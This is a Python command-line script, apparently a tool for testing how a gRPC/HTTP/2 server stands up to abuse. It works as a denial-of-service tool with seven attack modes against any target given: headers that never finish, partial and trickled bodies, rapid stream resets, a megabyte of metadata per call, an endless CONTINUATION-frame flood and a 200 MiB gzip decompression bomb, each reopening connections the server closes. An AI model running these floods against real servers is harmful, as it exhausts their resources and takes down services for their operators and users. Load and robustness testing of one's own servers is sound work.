#!/usr/bin/env python3
"""Callers that begin messages and end none, and what else a raw HTTP/2 client can do to a server.

  slow.py --target 127.0.0.1:PORT --kind KIND [--connections N] [--streams N] [--seconds S] [--source ADDRESS]

--kind headers   streams whose headers come and whose message never does
       partial   streams that announce a message of 240 MiB and send its first MiB, or what is taken of it
       trickle   as partial, and then a byte every 0.2 s
       resets    streams that are begun and reset at once, as fast as the server reads
       metadata  small calls with a megabyte of headers
       endless   one block of headers that never ends, in CONTINUATION frames: 256 MiB for each connection
       bomb      a message of 200 MiB of zeros, compressed by gzip

Connections and streams that the server ends are begun again. Prints "holding" once all have been begun, and at the end
a line of JSON: "begun" and "ended" streams, and the connections that were "lost".
"""

from __future__ import annotations

import argparse
import collections
import functools
import json
import signal
import struct
import time
import zlib

import http2
import messages

ANNOUNCED = 240 << 20
FIRST_PART = 1 << 20
RESETS_AT_ONCE = 200
ENDLESS = 256 << 20
HEADER = b"\0" + http2.hpack_text(b"x-more") + http2.hpack_text(b"v" * 8000)


@functools.cache
def bomb() -> bytes:
    packer = zlib.compressobj(9, wbits=31)
    return packer.compress(bytes(200 << 20)) + packer.flush()


class Attack:
    def __init__(self, options: argparse.Namespace):
        self.options = options
        self.connections: list[http2.Connection | None] = [None] * options.connections
        self.flooded: collections.Counter[int] = collections.Counter()
        self.begun = self.ended = self.lost = 0

    def open(self, connection: http2.Connection) -> None:
        kind = self.options.kind
        self.begun += 1
        if kind == "metadata":
            stream = connection.open(messages.COMPUTE, [(f"x-{i}", "v" * 8192) for i in range(128)])
            connection.send(stream, messages.Call().message(), end=True)
        elif kind == "endless":
            connection.open(messages.COMPUTE, last=False)
        elif kind == "bomb":
            stream = connection.open(messages.COMPUTE, [("grpc-encoding", "gzip")])
            connection.send(stream, [bomb()], end=True, compressed=True)
        else:
            stream = connection.open(messages.COMPUTE)
            if kind in ("partial", "trickle"):
                stream.pending.append(memoryview(struct.pack(">BI", 0, ANNOUNCED)))
                stream.pending.append(messages.zeros(FIRST_PART))
            elif kind == "resets":
                connection.raw(http2.frame(http2.RST_STREAM, 0, stream.id, struct.pack(">I", 8)))
                del connection.streams[stream.id]
                self.ended += 1

    def go_on(self, connection: http2.Connection) -> None:
        """More of what never ends."""
        for stream in connection.streams.values():
            if self.options.kind == "endless" and connection.sent() and self.flooded[id(stream)] < ENDLESS:
                self.flooded[id(stream)] += 100 * len(HEADER)
                for _ in range(100):
                    connection.raw(http2.frame(http2.CONTINUATION, 0, stream.id, HEADER))
            if self.options.kind == "trickle" and not stream.pending and not stream.closed:
                stream.pending.append(messages.zeros(1))

    def renew(self) -> None:
        """Begins what there should be and is not."""
        for i, held in enumerate(self.connections):
            connection = held
            if connection is None or connection.closed or connection.goaway:
                self.lost += connection is not None
                try:
                    connection = self.connections[i] = http2.Connection(self.options.target, self.options.source)
                except OSError:
                    self.connections[i] = None
                    continue
                connection.pump(0.05)  # the server's settings
            for stream in [stream for stream in connection.streams.values() if stream.closed]:
                del connection.streams[stream.id]
                self.ended += 1
            wanted = {"resets": RESETS_AT_ONCE, "endless": 1}.get(self.options.kind, self.options.streams)
            for _ in range(wanted - len(connection.streams)):
                self.open(connection)
            connection.pump_until(connection.sent if self.options.kind == "resets" else lambda: True, 1)

    def run(self) -> None:
        self.renew()
        print("holding", flush=True)
        end, trickled = time.monotonic() + self.options.seconds, time.monotonic()
        renewed = trickled
        while time.monotonic() < end:
            alive = [connection for connection in self.connections if connection is not None]
            for connection in alive:
                connection.pump(0.05 / len(alive))
            if self.options.kind == "endless" or time.monotonic() - trickled > 0.2:
                trickled = time.monotonic()
                for connection in alive:
                    self.go_on(connection)
            if self.options.kind == "resets" or time.monotonic() - renewed > 0.5:
                renewed = time.monotonic()
                self.renew()


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--target", required=True, help="host:port or unix:path")
    parser.add_argument("--source", help="the address to call from")
    kinds = ("headers", "partial", "trickle", "resets", "metadata", "endless", "bomb")
    parser.add_argument("--kind", choices=kinds, required=True)
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--streams", type=int, default=100, help="of each connection, at once")
    parser.add_argument("--seconds", type=float, default=10)
    options = parser.parse_args()
    attack = Attack(options)
    signal.signal(signal.SIGTERM, lambda *_: (_ for _ in ()).throw(SystemExit))
    try:
        attack.run()
    finally:
        print(json.dumps({"begun": attack.begun, "ended": attack.ended, "lost": attack.lost}), flush=True)


if __name__ == "__main__":
    main()
